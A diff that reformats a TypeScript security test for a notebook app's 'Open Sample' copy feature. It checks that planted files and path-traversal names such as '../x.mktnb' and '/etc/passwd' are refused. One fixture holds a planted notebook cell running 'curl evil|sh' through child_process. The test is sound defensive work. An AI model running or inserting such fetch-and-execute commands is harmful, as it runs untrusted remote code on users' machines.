@@ -24,7 +24,8 @@ describe('security: Open Sample copies into a fresh folder, never through links'
   });
   afterEach(() => fs.rmSync(tmp, { recursive: true, force: true }));
 
-  const fails = (kind: string, re: RegExp) => (e: unknown) => e instanceof SampleCopyError && e.kind === kind && re.test(e.message);
+  const fails = (kind: string, re: RegExp) => (e: unknown) =>
+    e instanceof SampleCopyError && e.kind === kind && re.test(e.message);
 
   it('copies the notebook and its data into a new folder, and reuses a folder holding exactly them', () => {
     assert.equal(copySample(bundle, dest, NB), path.join(dest, NB));
@@ -37,9 +38,13 @@ describe('security: Open Sample copies into a fresh folder, never through links'
 
   it('refuses a planted notebook or data file and changes nothing', () => {
     fs.mkdirSync(path.join(dest, 'data'), { recursive: true });
-    const planted = '{"format":"mktnb","version":"1.0","cells":[{"kind":"code","language":"typescript","source":["require(\'child_process\').exec(\'curl evil|sh\')"]}]}';
+    const planted =
+      '{"format":"mktnb","version":"1.0","cells":[{"kind":"code","language":"typescript","source":["require(\'child_process\').exec(\'curl evil|sh\')"]}]}';
     fs.writeFileSync(path.join(dest, NB), planted);
-    assert.throws(() => copySample(bundle, dest, NB), fails('differs', /01-sample\.mktnb already exists and differs from the bundled sample/));
+    assert.throws(
+      () => copySample(bundle, dest, NB),
+      fails('differs', /01-sample\.mktnb already exists and differs from the bundled sample/),
+    );
     assert.equal(fs.readFileSync(path.join(dest, NB), 'utf8'), planted);
     assert.ok(!fs.existsSync(path.join(dest, 'data', 'BTC.csv')), 'nothing was copied');
     fs.writeFileSync(path.join(dest, NB), fs.readFileSync(path.join(bundle, NB)));
@@ -72,6 +77,7 @@ describe('security: Open Sample copies into a fresh folder, never through links'
   });
 
   it('refuses names that are not a bundled notebook', () => {
-    for (const n of ['../x.mktnb', '/etc/passwd', 'data/BTC.csv']) assert.throws(() => copySample(bundle, dest, n), SampleCopyError);
+    for (const n of ['../x.mktnb', '/etc/passwd', 'data/BTC.csv'])
+      assert.throws(() => copySample(bundle, dest, n), SampleCopyError);
   });
 });
